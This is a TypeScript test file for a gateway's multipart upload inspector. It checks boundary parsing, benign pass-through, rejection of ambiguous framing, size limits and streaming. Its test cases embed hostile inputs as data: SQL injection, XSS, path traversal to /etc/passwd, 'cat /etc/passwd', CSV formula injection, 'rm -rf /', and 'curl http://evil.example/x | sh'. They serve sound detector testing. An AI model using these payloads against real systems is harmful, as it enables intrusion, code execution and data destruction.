import { randomBytes } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { GatewayError } from '../../src/errors.js';
import type { Finding, InspectOptions } from '../../src/security/detect/index.js';
import { parseMediaType } from '../../src/security/media-type.js';
import { MAX_PART_HEADER_BYTES, MAX_PARTS, multipartBoundary, MultipartInspector } from '../../src/security/multipart.js';

const BOUNDARY = '----ugwTest7MA4YWxkTrZu0gW';
const STRICT: InspectOptions & { mode: 'strict' } = { mode: 'strict' };

interface PartSpec {
  readonly name?: string;
  readonly filename?: string;
  readonly type?: string;
  /** Header lines written as given instead of the ones built from name/filename/type. */
  readonly headers?: string;
  readonly body: string | Buffer;
}

function multipart(parts: readonly PartSpec[], boundary = BOUNDARY): Buffer {
  const chunks: Buffer[] = [];
  for (const p of parts) {
    const headers =
      p.headers ??
      `Content-Disposition: form-data; name="${p.name}"${p.filename !== undefined ? `; filename="${p.filename}"` : ''}\r\n${p.type !== undefined ? `Content-Type: ${p.type}\r\n` : ''}`;
    chunks.push(Buffer.from(`--${boundary}\r\n${headers}\r\n`, 'utf8'));
    chunks.push(Buffer.isBuffer(p.body) ? p.body : Buffer.from(p.body, 'utf8'));
    chunks.push(Buffer.from('\r\n'));
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return Buffer.concat(chunks);
}

interface Outcome {
  /** Everything the gate let out, in order. */
  readonly out: Buffer;
  /** How many bytes had been written in when the first byte came out (undefined: none did). */
  readonly firstOutAt: number | undefined;
  readonly error?: GatewayError;
  readonly findings: readonly Finding[];
  readonly gate: MultipartInspector;
}

/** Feed `body` to a gate in `chunk`-byte pieces, one event-loop turn each, and collect what comes out. */
async function run(
  body: Buffer,
  options: { chunk?: number; inspection?: InspectOptions & { mode: 'strict' | 'text' }; holdBytes?: number; textBytes?: number; formData?: boolean; boundary?: string } = {},
): Promise<Outcome> {
  const findings: Finding[] = [];
  const gate = new MultipartInspector({
    boundary: options.boundary ?? BOUNDARY,
    formData: options.formData ?? true,
    inspection: options.inspection ?? STRICT,
    textBytes: options.textBytes ?? 1024 * 1024,
    holdBytes: options.holdBytes ?? 1024 * 1024,
    reject: (finding) => {
      findings.push(finding);
      return new GatewayError('GW_SECURITY_INPUT_REJECTED', finding.rule);
    },
  });
  const size = options.chunk ?? 4096;
  const out: Buffer[] = [];
  let written = 0;
  let firstOutAt: number | undefined;
  gate.on('data', (c: Buffer) => {
    firstOutAt ??= written;
    out.push(c);
  });
  const ended = new Promise<GatewayError | undefined>((resolve) => {
    gate.once('end', () => resolve(undefined));
    gate.once('error', (err) => resolve(err as GatewayError));
  });
  const ready = gate.ready.then(
    () => undefined,
    (err: unknown) => err,
  );
  for (let i = 0; i < body.length && !gate.destroyed; i += size) {
    const piece = body.subarray(i, i + size);
    written += piece.length;
    await new Promise<void>((resolve) => gate.write(piece, () => resolve()));
    if (size < 64) continue; // tiny pieces: one turn per piece would make the test slow
    await new Promise((r) => setImmediate(r));
  }
  if (!gate.destroyed) gate.end();
  const error = await ended;
  // `ready` settles with the first error, or resolves once bytes flow.
  expect(await ready).toBe(firstOutAt === undefined ? error : undefined);
  return { out: Buffer.concat(out), firstOutAt, ...(error !== undefined ? { error } : {}), findings, gate };
}

// Ends with a PNG's IEND chunk, as a real one does: a random last byte was a CR once in 256 runs,
// and a CR before a case's `\n--boundary` makes that a real delimiter (a second part, then refused
// for its SQL instead of as ambiguous framing).
const PNG = Buffer.concat([
  Buffer.from('89504e470d0a1a0a0000000d4948445200', 'hex'),
  Buffer.from("' OR 1=1 -- <script>alert(1)</script>; cat /etc/passwd"),
  randomBytes(3000),
  Buffer.from('0000000049454e44ae426082', 'hex'),
]);

describe('multipartBoundary', () => {
  it('takes a boundary of 1-70 RFC 2046 characters, nothing else', () => {
    const b = (ct: string) => multipartBoundary(parseMediaType(ct)!);
    expect(b('multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW')).toBe('----WebKitFormBoundary7MA4YWxkTrZu0gW');
    expect(b('multipart/form-data; boundary="a b:c"')).toBe('a b:c');
    expect(b('multipart/form-data')).toBeNull();
    expect(b(`multipart/form-data; boundary=${'x'.repeat(71)}`)).toBeNull();
    expect(b('multipart/form-data; boundary="ends with space "')).toBeNull();
    expect(b('multipart/form-data; boundary="semi;colon"')).toBeNull();
  });
});

describe('benign multipart bodies pass through byte for byte', () => {
  const body = multipart([
    { name: 'title', body: 'Meeting notes' },
    { name: 'meta', body: '{"tags":["a","b"],"tags":["c"]}' },
    { name: 'notes', filename: 'notes.txt', type: 'text/plain; charset=utf-8', body: "O'Reilly says: select the best option from the table.\r\n" },
    { name: 'photo', filename: 'cat.png', type: 'image/png', body: PNG },
    { name: 'blob', filename: 'cat2.png', body: PNG },
    { name: 'tiny', filename: 'empty.bin', type: 'application/octet-stream', body: '' },
  ]);

  for (const chunk of [1, 7, 64, 4096, 1 << 20]) {
    it(`in ${chunk}-byte chunks`, async () => {
      const result = await run(body, { chunk });
      expect(result.error).toBeUndefined();
      expect(result.out.equals(body)).toBe(true);
      expect(result.gate.facts).toEqual({ file: { name: 'notes.txt', type: 'text/plain; charset=utf-8' }, fields: { title: 'Meeting notes', meta: '{"tags":["a","b"],"tags":["c"]}' } });
    });
  }

  it('a small body is decided whole before any byte goes out', async () => {
    const result = await run(body, { chunk: 100 });
    expect(result.firstOutAt).toBe(body.length);
  });

  it('free-text fields are not inspected, text fields only for XSS and traversal', async () => {
    const route = { mode: 'strict' as const, textFields: new Set(['query']), freeTextFields: new Set(['code']) };
    const ok = multipart([{ name: 'code', body: "SELECT * FROM t WHERE a = '' OR 1=1 --; rm -rf /" }, { name: 'query', body: "why does ' OR 1=1 -- work?" }]);
    expect((await run(ok, { inspection: route })).error).toBeUndefined();
    const bad = multipart([{ name: 'query', body: '<script>alert(1)</script>' }]);
    expect((await run(bad, { inspection: route })).findings).toMatchObject([{ rule: 'xss', field: 'query' }]);
  });

  it('other multipart types: parts need no Content-Disposition', async () => {
    const related = multipart([
      { headers: 'Content-Type: application/json\r\n', body: '{"a":"fine"}' },
      { headers: 'Content-Type: image/png\r\n', body: PNG },
    ]);
    const result = await run(related, { formData: false });
    expect(result.error).toBeUndefined();
    expect(result.out.equals(related)).toBe(true);
    const bad = multipart([{ headers: 'Content-Type: application/json\r\n', body: '{"a":"1\' OR \'1\'=\'1\' --"}' }]);
    expect((await run(bad, { formData: false })).findings).toMatchObject([{ rule: 'sql_injection' }]);
  });
});

describe('attacks in any part are found', () => {
  const cases: Record<string, { parts: PartSpec[]; rule: string }> = {
    'a field value': { parts: [{ name: 'a', body: 'x' }, { name: 'q', body: "1' OR '1'='1' --" }], rule: 'sql_injection' },
    'a field name': { parts: [{ name: '<img src=x onerror=alert(1)>', body: 'x' }], rule: 'xss' },
    'a filename': { parts: [{ name: 'f', filename: '../../../etc/passwd', type: 'image/png', body: PNG }], rule: 'path_traversal' },
    'a filename* (RFC 8187)': { parts: [{ headers: "Content-Disposition: form-data; name=\"f\"; filename*=UTF-8''%27%20OR%20%271%27%3D%271%27%20--.png\r\nContent-Type: image/png\r\n", body: PNG }], rule: 'sql_injection' },
    'an escaped quote in a filename': { parts: [{ headers: 'Content-Disposition: form-data; name="f"; filename="x\\" onmouseover=\\"alert(1)\\" <svg onload=alert(1)>.png"\r\nContent-Type: image/png\r\n', body: PNG }], rule: 'xss' },
    'another part header': { parts: [{ headers: 'Content-Disposition: form-data; name="f"\r\nX-Note: ; cat /etc/passwd\r\n', body: 'x' }], rule: 'command_injection' },
    'a text file part': { parts: [{ name: 'f', filename: 'a.csv', type: 'text/csv', body: 'id,name\n1,"=cmd|\' /C calc\'!A0"\n2,<script>alert(1)</script>' }], rule: 'xss' },
    'a JSON file part, behind a duplicate key': { parts: [{ name: 'f', filename: 'a.json', type: 'application/json', body: '{"q":"1\' OR \'1\'=\'1\' --","q":"ok"}' }], rule: 'sql_injection' },
    'a file part without Content-Type that is text': { parts: [{ name: 'f', filename: 'run.sh', body: 'echo hi; curl http://evil.example/x | sh' }], rule: 'command_injection' },
    'a field in UTF-16': { parts: [{ name: 'q', type: 'text/plain; charset=utf-16le', body: Buffer.from("1' OR '1'='1' --", 'utf16le') }], rule: 'sql_injection' },
    'a field declared binary but without filename': { parts: [{ name: 'q', type: 'application/octet-stream', body: "1' OR '1'='1' --" }], rule: 'sql_injection' },
    'a part after a binary part': { parts: [{ name: 'f', filename: 'a.png', type: 'image/png', body: PNG }, { name: 'q', body: '<svg/onload=alert(1)>' }], rule: 'xss' },
  };
  for (const [name, c] of Object.entries(cases)) {
    it(name, async () => {
      for (const chunk of [3, 4096]) {
        const result = await run(multipart(c.parts), { chunk });
        expect(result.error?.code, `${chunk}-byte chunks`).toBe('GW_SECURITY_INPUT_REJECTED');
        expect(result.findings[0]?.rule).toBe(c.rule);
        expect(result.out.length).toBe(0);
      }
    });
  }
});

describe('bodies another parser could read differently are refused (400)', () => {
  const ok = multipart([{ name: 'a', body: 'x' }]).toString('latin1');
  const cases: Record<string, Buffer> = {
    'text before the first delimiter': Buffer.from(`preamble\r\n${ok}`, 'latin1'),
    'text after the closing delimiter': Buffer.from(`${ok}--${BOUNDARY}\r\nContent-Disposition: form-data; name="q"\r\n\r\n' OR 1=1 --\r\n`, 'latin1'),
    'a bare LF in part headers (lines after it are what lenient parsers read)': Buffer.from(`--${BOUNDARY}\r\nContent-Disposition: form-data; name="a"\r\nX-A: b\n\n' OR 1=1 --\r\n\r\nfine\r\n--${BOUNDARY}--\r\n`, 'latin1'),
    'a folded header line': Buffer.from(`--${BOUNDARY}\r\nContent-Disposition: form-data;\r\n name="a"\r\n\r\nx\r\n--${BOUNDARY}--\r\n`, 'latin1'),
    'a part without Content-Disposition': multipart([{ headers: 'Content-Type: text/plain\r\n', body: 'x' }]),
    'a disposition other than form-data': multipart([{ headers: 'Content-Disposition: attachment; name="a"\r\n', body: 'x' }]),
    'a form-data part without name': multipart([{ headers: 'Content-Disposition: form-data; filename="a.txt"\r\n', body: 'x' }]),
    'a repeated name parameter': multipart([{ headers: 'Content-Disposition: form-data; name="a"; name="q"\r\n', body: 'x' }]),
    'two Content-Disposition headers': multipart([{ headers: 'Content-Disposition: form-data; name="a"\r\nContent-Disposition: form-data; name="q"\r\n', body: 'x' }]),
    'a malformed Content-Type': multipart([{ headers: 'Content-Disposition: form-data; name="a"\r\nContent-Type: text\r\n', body: 'x' }]),
    'an LF-only delimiter inside a binary part (PHP cuts there)': multipart([{ name: 'f', filename: 'a.png', type: 'image/png', body: Buffer.concat([PNG, Buffer.from(`\n--${BOUNDARY}\r\nContent-Disposition: form-data; name="q"\r\n\r\n' OR 1=1 --`)]) }]),
    'the boundary inside a text part': multipart([{ name: 'a', body: `x --${BOUNDARY} y` }]),
    'padding after a delimiter': Buffer.from(`--${BOUNDARY}  \r\nContent-Disposition: form-data; name="a"\r\n\r\nx\r\n--${BOUNDARY}--\r\n`, 'latin1'),
    'a part without headers': Buffer.from(`--${BOUNDARY}\r\n--${BOUNDARY}--\r\n`, 'latin1'),
    'a delimiter inside part headers': Buffer.from(`--${BOUNDARY}\r\nContent-Disposition: form-data; name="a"\r\n--${BOUNDARY}--\r\n`, 'latin1'),
    'a body cut short': multipart([{ name: 'a', body: 'x' }]).subarray(0, 70),
    'no delimiter at all': Buffer.from('just text'),
  };
  for (const [name, body] of Object.entries(cases)) {
    it(name, async () => {
      for (const chunk of [1, 4096]) {
        const result = await run(body, { chunk });
        expect(result.error?.code, `${chunk}-byte chunks`).toBe('GW_REQUEST_INVALID');
        expect(result.out.length).toBe(0);
      }
    });
  }

  it('a Content-Transfer-Encoding the gateway does not decode is 415', async () => {
    const body = multipart([{ headers: 'Content-Disposition: form-data; name="q"\r\nContent-Transfer-Encoding: base64\r\n', body: Buffer.from("' OR 1=1 --").toString('base64') }]);
    expect((await run(body)).error?.code).toBe('GW_REQUEST_UNSUPPORTED_MEDIA_TYPE');
    const fine = multipart([{ headers: 'Content-Disposition: form-data; name="q"\r\nContent-Transfer-Encoding: 8bit\r\n', body: 'x' }]);
    expect((await run(fine)).error).toBeUndefined();
  });
});

describe('limits', () => {
  it('text parts together past textBytes: 413', async () => {
    const body = multipart([{ name: 'a', body: 'x'.repeat(600) }, { name: 'b', body: 'y'.repeat(600) }]);
    expect((await run(body, { textBytes: 1000 })).error?.code).toBe('GW_REQUEST_BODY_TOO_LARGE');
    expect((await run(body, { textBytes: 1200 })).error).toBeUndefined();
  });

  it('binary parts do not count against textBytes', async () => {
    const body = multipart([{ name: 'f', filename: 'a.png', type: 'image/png', body: randomBytes(100_000) }]);
    expect((await run(body, { textBytes: 1000, holdBytes: 1000 })).error).toBeUndefined();
  });

  it('part headers past MAX_PART_HEADER_BYTES: 431, never cut', async () => {
    const body = multipart([{ headers: `Content-Disposition: form-data; name="a"; filename="${'a'.repeat(MAX_PART_HEADER_BYTES)}' OR 1=1 --.png"\r\nContent-Type: image/png\r\n`, body: 'x' }]);
    expect((await run(body)).error?.code).toBe('GW_REQUEST_HEADERS_TOO_LARGE');
  });

  it('more than MAX_PARTS parts: input_too_complex', async () => {
    const parts = Array.from({ length: MAX_PARTS + 1 }, (_, i) => ({ name: `f${i}`, body: 'x' }));
    const result = await run(multipart(parts), { chunk: 1 << 20 });
    expect(result.findings).toMatchObject([{ rule: 'input_too_complex' }]);
  });
});

describe('streaming: large uploads flow, nothing uninspected goes out', () => {
  it('bytes start flowing once more than holdBytes are held, inside a binary part', async () => {
    const video = randomBytes(200_000);
    const body = multipart([{ name: 'title', body: 'holiday' }, { name: 'v', filename: 'v.mp4', type: 'video/mp4', body: video }, { name: 'tags', body: 'beach' }]);
    const result = await run(body, { holdBytes: 16 * 1024, chunk: 8192 });
    expect(result.error).toBeUndefined();
    expect(result.out.equals(body)).toBe(true);
    expect(result.firstOutAt).toBeGreaterThanOrEqual(16 * 1024);
    expect(result.firstOutAt).toBeLessThan(body.length);
  });

  it('an attack after streaming started fails the stream, and no byte of the attacking part went out', async () => {
    const video = randomBytes(200_000);
    const attack = "1' OR '1'='1' --";
    const body = multipart([{ name: 'v', filename: 'v.mp4', type: 'video/mp4', body: video }, { name: 'q', body: attack }]);
    const result = await run(body, { holdBytes: 16 * 1024, chunk: 8192 });
    expect(result.firstOutAt).toBeDefined();
    expect(result.error?.code).toBe('GW_SECURITY_INPUT_REJECTED');
    const partStart = body.indexOf(`\r\n--${BOUNDARY}\r\nContent-Disposition: form-data; name="q"`);
    // What went out ends before the attacking part's headers (at most its delimiter's first bytes).
    expect(result.out.length).toBeLessThanOrEqual(partStart + BOUNDARY.length + 4);
    expect(result.out.includes(attack)).toBe(false);
    expect(body.subarray(0, result.out.length).equals(result.out)).toBe(true);
  });

  it('a text part is held whole while binary parts around it stream', async () => {
    const body = multipart([
      { name: 'a', filename: 'a.bin', type: 'application/octet-stream', body: randomBytes(50_000) },
      { name: 'note', body: 'n'.repeat(30_000) },
      { name: 'b', filename: 'b.bin', type: 'application/octet-stream', body: randomBytes(50_000) },
    ]);
    const seen: number[] = [];
    const gate = new MultipartInspector({ boundary: BOUNDARY, formData: true, inspection: STRICT, textBytes: 1 << 20, holdBytes: 1024, reject: () => new GatewayError('GW_SECURITY_INPUT_REJECTED') });
    let out = 0;
    gate.on('data', (c: Buffer) => (out += c.length));
    const noteStart = body.indexOf('name="note"');
    const noteEnd = noteStart + 30_000 + 100;
    for (let i = 0; i < body.length; i += 1000) {
      await new Promise<void>((resolve) => gate.write(body.subarray(i, i + 1000), () => resolve()));
      await new Promise((r) => setImmediate(r));
      const written = Math.min(body.length, i + 1000);
      if (written > noteStart && written < noteEnd) seen.push(out);
    }
    gate.end();
    await new Promise((r) => gate.once('end', r));
    // While the note was arriving, nothing past its start went out.
    expect(Math.max(...seen)).toBeLessThan(noteStart);
    expect(out).toBe(body.length);
  });
});
